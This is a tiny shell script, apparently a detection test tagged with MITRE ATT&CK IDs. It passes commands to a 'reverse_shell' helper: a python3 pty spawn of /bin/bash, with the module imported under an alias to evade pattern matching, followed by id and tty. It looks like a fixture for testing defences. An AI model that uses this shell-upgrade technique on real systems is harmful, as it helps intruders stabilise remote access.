# The pty module under another name.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import pty as p; p.spawn("/bin/bash")'
id
tty
exit
exit
TYPED
